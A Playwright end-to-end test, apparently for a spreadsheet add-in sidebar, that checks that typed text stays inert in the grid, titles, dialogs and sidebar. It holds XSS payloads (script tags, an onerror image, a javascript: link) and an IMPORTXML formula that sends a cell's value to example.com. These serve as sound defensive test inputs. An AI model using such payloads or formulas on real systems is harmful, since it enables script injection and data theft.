import type { Frame, Page } from 'playwright-core';
import { words } from '../../../host/page/text';
import * as sidebarText from '../../../sidebar/text';
import { cellOf, chosen, comes, inSidebar, pictured, shown, sidebar, stored, titleOf, typed } from '../hands';
import type { Scene } from '../scene';
import { CHECK } from './checked';

/** Texts that would do something if they were taken for HTML, script or a formula. */
const HOSTILE: readonly string[] = [
  '<img src=x onerror="parent.hacked=1,top.hacked=1">',
  '"><script>parent.hacked=1</script>',
  '</script><script>top.hacked=1</script>',
  'javascript:top.hacked=1',
];

const FORMULA = '=IMPORTXML("http://example.com/?"&A1,"//a")';

async function unharmed(page: Page): Promise<void> {
  // A blank one is there for a moment only: a script's realm is taken from it.
  const frames = page.frames().filter((frame) => frame.url() !== 'about:blank');
  for (const frame of frames) expect(await hackedIn(frame)).toBe(false);
}

const hackedIn = (frame: Frame): Promise<boolean> => frame.evaluate(() => 'hacked' in window);

/** What people type is text wherever it is shown: in the grid, in the sidebar, in titles, questions and lists. */
export const hostileText: Scene = async ({ page, language }) => {
  const text = { en: sidebarText.en, zh: sidebarText.zh }[language];
  const pageText = words[language];
  const [settings, stores, people] = ['settings', 'stores', 'people'].map((tab) => titleOf(tab, language)) as [
    string,
    string,
    string,
  ];
  const [image = '', quoted = '', closing = '', link = ''] = HOSTILE;

  // In the grid.
  const region = await cellOf(page, settings, 'region');
  await typed(page, settings, region, image);
  await comes(() => shown(page, settings, region), image);
  const name = await cellOf(page, stores, 'name', 4);
  await typed(page, stores, name, quoted);
  await comes(() => shown(page, stores, name), quoted);
  const person = await cellOf(page, people, 'person', 4);
  await typed(page, people, person, closing);

  // As the workbook's name, in the list of workbooks, and in a question about it.
  const title = page.getByLabel(pageText.title);
  await title.fill(image);
  await title.press('Enter');
  await page.getByRole('button', { name: pageText.books.open, exact: true }).click();
  await page.getByRole('button', { name: pageText.books.remove(image) }).click();
  await page.locator('dialog.question', { hasText: image }).waitFor();
  await unharmed(page);
  await page.keyboard.press('Escape');
  await page.locator('dialog.books .bar .close').click();

  // In the sidebar: shown, and typed there; a formula stays text.
  const side = await sidebar(page, language);
  await side.locator('h1', { hasText: image }).waitFor();
  await pictured(page, `${language}-hostile`);
  await side.locator('.parts .part', { hasText: stores }).click();
  await side.getByText(quoted).first().click();
  const label = { en: 'Store manager', zh: '店长' }[language];
  await side.getByLabel(label, { exact: true }).fill(FORMULA);
  await side.getByLabel({ en: 'City', zh: '城市' }[language], { exact: true }).fill(link);
  await side.getByRole('button', { name: text.form.save, exact: true }).click();
  await stored(side, language);
  expect(await shown(page, stores, await cellOf(page, stores, 'manager', 4))).toBe(FORMULA);
  expect(await shown(page, stores, await cellOf(page, stores, 'city', 4))).toBe(link);
  await unharmed(page);

  // A name without end: its heading is cut after three lines, and nothing is wider than the sidebar.
  await side.locator('[data-cell=name]').fill('W'.repeat(300));
  await side.getByRole('button', { name: text.form.save, exact: true }).click();
  await side.locator('h1', { hasText: 'W'.repeat(300) }).waitFor();
  const { height } = (await side.locator('h1').boundingBox()) ?? { height: Number.NaN };
  expect(height).toBeLessThan(70);
  expect(await side.locator('main').evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)).toBe(0);

  // In the list of what is not as it should be.
  const check = await inSidebar(page, () => chosen(page, CHECK[language]));
  await check.getByRole('heading', { name: text.check.title }).waitFor();
  await check.locator('main .quiet.small').waitFor();
  await unharmed(page);
};
